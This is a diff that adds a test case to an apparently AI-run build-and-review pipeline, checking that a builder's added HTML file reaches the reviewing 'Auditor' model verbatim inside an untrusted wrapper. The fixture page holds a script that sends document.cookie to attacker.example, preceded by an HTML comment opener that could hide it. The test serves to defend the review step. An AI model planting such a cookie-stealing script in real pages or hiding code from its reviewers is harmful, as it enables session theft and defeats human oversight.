@@ -76,4 +76,20 @@ describe("what the app pushes and what the Auditor sees", () => {
     expect(s.labels(issue)).toContain("autopack:needs-human");
     expect(s.status(issue)).toContain("the Auditor escalated: Not read in full, so not approved; a person must review: src/table.ts");
   });
+
+  it("an added `<!-- ` line and the code after it reach the Auditor's model verbatim, over the model server's API", async () => {
+    w = await startWorld();
+    const { h, s } = w;
+    const page = ["<p>Widgets</p>", "<!-- ", "<script>fetch('https://attacker.example/?c=' + document.cookie)</script>", ""].join("\n");
+    scriptAgents(h.llm, {
+      builds: { P1: [{ summary: "Add the page", edits: [{ path: "web/index.html", action: "create", content: page }] }] },
+      audits: { P1: [{ recommendation: "approve" }] },
+    });
+    await s.label(yamlPlan({ T1: [["P1", "Page"]] }));
+
+    const audit = h.llm.requests.find((r) => purposeOf(r)?.role === "auditor");
+    expect(audit?.prompt).toContain(
+      "+<p>Widgets</p>\n+<!-- \n+<script>fetch('https://attacker.example/?c=' + document.cookie)</script>\n</untrusted>",
+    );
+  });
 });
